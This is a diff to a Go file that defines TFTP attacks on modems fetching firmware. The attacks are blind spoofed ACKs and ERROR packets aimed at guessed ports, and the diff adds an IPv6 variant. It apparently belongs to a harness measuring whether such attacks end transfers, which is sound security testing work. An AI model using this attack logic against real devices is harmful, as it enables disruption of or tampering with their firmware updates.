@@ -131,15 +131,19 @@ var attacks = []attack{
 		play: blindACKs(guess{request: request(firmware, 1)}),
 	},
 	{
-		name: "blind ACKs, first window", ends: true, how: "the same, and no more than the first ACK", bound: otherBound,
+		name: "blind ACKs, IPv6", ends: true, how: "the same over IPv6", bound: otherBound, v6: true,
+		play: blindACKs(guess{request: request(firmware, 1)}),
+	},
+	{
+		name: "blind ACKs, first window", ends: true, how: "no more of these than the first", bound: otherBound,
 		play: blindACKs(guess{request: request(firmware, 1), windows: 1}),
 	},
 	{
-		name: "blind ACKs, patient", ends: true, how: "the same, each ACK when the server has sent again four times", bound: otherBound,
+		name: "blind ACKs, patient", ends: true, how: "each when the server has sent again four times", bound: otherBound,
 		play: blindACKs(guess{request: request(firmware, 1), wait: 4500 * time.Millisecond}),
 	},
 	{
-		name: "blind ACKs, no options", ends: true, how: "the same of blocks of 512 octets, one by one", bound: otherBound,
+		name: "blind ACKs, no options", ends: true, how: "blocks of 512 octets, acknowledged in the same way one by one", bound: otherBound,
 		play: blindACKs(guess{request: request(firmware, 0)}),
 	},
 	{
@@ -220,11 +224,11 @@ type guess struct {
 // may answer.
 func blindACKs(g guess) func(context.Context, *assault, func()) error {
 	return func(ctx context.Context, a *assault, opened func()) error {
-		ports, err := tids(ctx, g.request)
+		ports, err := tids(ctx, g.request, a.victims.Addr().Is6())
 		if err != nil {
 			return err
 		}
-		blocks, err := acks(g.request, cmp.Or(g.windows, a.windows))
+		blocks, err := acks(g.request, cmp.Or(g.windows, a.windows), a.victims.Addr().Is6())
 		if err != nil {
 			return err
 		}
@@ -262,7 +266,7 @@ func (a *assault) sweep(ctx context.Context, victims []netip.AddrPort, ports []u
 // blindERRORs ends whatever modems at the load's address fetch, at the ports that their system may have picked.
 func blindERRORs(ctx context.Context, a *assault, opened func()) error {
 	const errorRate = 20_000 // a second
-	ports, err := tids(ctx, request(firmware, 0))
+	ports, err := tids(ctx, request(firmware, 0), false)
 	if err != nil {
 		return err
 	}
